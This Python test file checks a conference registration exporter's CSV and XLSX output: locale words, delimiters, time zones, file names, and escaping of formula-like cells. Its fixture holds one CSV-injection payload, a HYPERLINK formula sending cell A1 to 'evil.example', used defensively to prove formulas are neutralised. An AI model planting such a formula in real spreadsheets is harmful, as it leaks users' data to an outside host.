"""An event's registrations as CSV and XLSX: columns, the locale's dialect and words, times
in the configured zone, and cells that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

from openpyxl import load_workbook

from rooms.events.exports import file_name, registrations_csv, registrations_xlsx
from rooms.models import Conference, Registration

SWEDISH = {
    "Name": "Namn",
    "Email": "E-post",
    "Status": "Status",
    "Waiting list place": "Plats på reservlistan",
    "Registered at": "Anmäld",
    "Selected": "Utvald",
    "Waitlisted": "På reservlistan",
    "Applied": "Har anmält sig",
    "Registrations": "Anmälningar",
}


def swedish(text: str) -> str:
    return SWEDISH.get(text, text)


def _event() -> tuple[Conference, list[Registration]]:
    conference = Conference(
        title="Samverkansforum Ö 2026",
        attributes=[
            {"key": "sektor", "label": "Sektor", "choices": ["Ideell", "Offentlig"]},
            {"key": "niva", "label": "Nivå", "choices": ["Lokal", "=1+1"]},
        ],
    )
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
    rows = [
        Registration(
            conference_id=conference.id,
            name="Åsa Öberg",
            email="asa@example.org",
            email_key="asa@example.org",
            attributes={"sektor": "Ideell", "niva": "Lokal"},
            status="selected",
            withdraw_hash="a",
            created_at=datetime(2026, 6, 1, 22, 30),  # UTC: 2 June 00:30 in Stockholm
        ),
        Registration(
            conference_id=conference.id,
            name=hostile,
            email="bo@example.org",
            email_key="bo@example.org",
            attributes={"sektor": "Offentlig", "niva": "=1+1"},
            status="waitlisted",
            place=1,
            withdraw_hash="b",
            created_at=datetime(2026, 1, 15, 9, 5),
        ),
    ]
    return conference, rows


def test_a_swedish_csv_is_semicolon_separated_with_a_byte_order_mark_and_swedish_words() -> None:
    conference, rows = _event()
    body = registrations_csv(conference, rows, "sv", t=swedish)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert parsed[0] == [
        "Namn",
        "E-post",
        "Sektor",
        "Nivå",
        "Status",
        "Plats på reservlistan",
        "Anmäld",
    ]
    assert parsed[1] == [
        "Åsa Öberg",
        "asa@example.org",
        "Ideell",
        "Lokal",
        "Utvald",
        "",
        "2026-06-02 00:30",
    ]
    assert parsed[2][4:6] == ["På reservlistan", "1"]
    assert parsed[2][6] == "2026-01-15 10:05"  # winter time: UTC+1


def test_an_english_csv_is_comma_separated_in_english() -> None:
    conference, rows = _event()
    text = registrations_csv(conference, rows, "en", time_zone="UTC").decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0][:2] == ["Name", "Email"]
    assert parsed[0][4:] == ["Status", "Waiting list place", "Registered at"]
    assert parsed[1][4] == "Selected" and parsed[1][6] == "2026-06-01 22:30"


def test_a_formula_in_a_csv_cell_comes_out_as_text() -> None:
    conference, rows = _event()
    text = registrations_csv(conference, rows, "en").decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[2][0] == "'" + rows[1].name
    assert parsed[2][3] == "'=1+1"  # an answer, too
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in parsed for cell in row)


def test_the_xlsx_holds_text_as_text_in_a_named_sheet_with_widths() -> None:
    conference, rows = _event()
    body = registrations_xlsx(conference, rows, "sv", t=swedish)
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Anmälningar"]
    sheet = book["Anmälningar"]
    assert [c.value for c in sheet[1]][:4] == ["Namn", "E-post", "Sektor", "Nivå"]
    name = sheet.cell(row=3, column=1)
    assert name.value == rows[1].name and name.data_type == "s" and name.quotePrefix
    assert sheet.cell(row=3, column=4).data_type == "s"
    assert sheet.cell(row=2, column=5).value == "Utvald"
    assert sheet.cell(row=3, column=6).value == 1
    assert sheet.cell(row=2, column=7).value == datetime(2026, 6, 2, 0, 30)
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 50  # the long name, capped
    assert 8 <= sheet.column_dimensions["F"].width < 50


def test_the_file_name_is_plain_ascii() -> None:
    conference, _ = _event()
    name = file_name(conference, datetime(2026, 12, 2), "csv")
    assert name == "samla-registrations-samverkansforum-o-2026-2026-12-02.csv"
